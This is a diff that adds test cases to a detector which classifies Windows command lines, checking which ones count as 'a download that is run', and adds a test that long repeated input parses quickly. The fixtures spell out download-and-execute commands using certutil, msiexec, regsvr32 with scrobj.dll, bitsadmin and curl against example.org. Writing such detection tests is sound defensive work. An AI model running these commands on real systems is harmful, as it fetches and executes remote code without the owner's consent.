@@ -315,6 +315,33 @@ describe("command lines", () => {
     expect(commandTraits(line)).toMatchObject({ program, place, deed });
   });
 
+  it.each([
+    ["cmd /c curl -s https://example.org/x.exe -o x.exe", true],
+    ["curl.exe -V | findstr https:", false],
+    ["certutil.exe -urlcache -f http://example.org/x x.exe", true],
+    ["certutil -hashfile x.exe", false],
+    ["msiexec /i https://example.org/x.msi /quiet", true],
+    ["msiexec.exe /q /i http://example.org/x.msi", true],
+    ["msiexec /i https://example.org/x.msi", false],
+    ["regsvr32 /s /n /u /i:http://example.org/x.sct scrobj.dll", true],
+    ["bitsadmin /transfer j https://example.org/x x.exe", true],
+  ])("%s: a download that is run is %s", (line, expected) => {
+    expect(commandTraits(line).deeds.includes("a download that is run")).toBe(expected);
+  });
+
+  it.each([
+    ["curl ", 200_000],
+    ["msiexec /q ", 200_000],
+    ["bitsadmin|", 200_000],
+    ["c:\\", 200_000],
+    [" ", 200_000],
+    ["a b", 200_000],
+    [" -e ", 200_000],
+  ])("are read soon, made of %j however often", (piece, times) => {
+    const { program } = commandTraits(`cmd.exe /c c:\\x${piece.repeat(times)}`);
+    expect(program).toBe("cmd.exe");
+  });
+
   it("intervals are read as Task Scheduler and schtasks write them", () => {
     expect(
       ["PT1M", "P1D", "PT1H30M", "PT30S", "5 minute", "1 hourly", "1 onlogon", "", "P"].map(minutesOf),
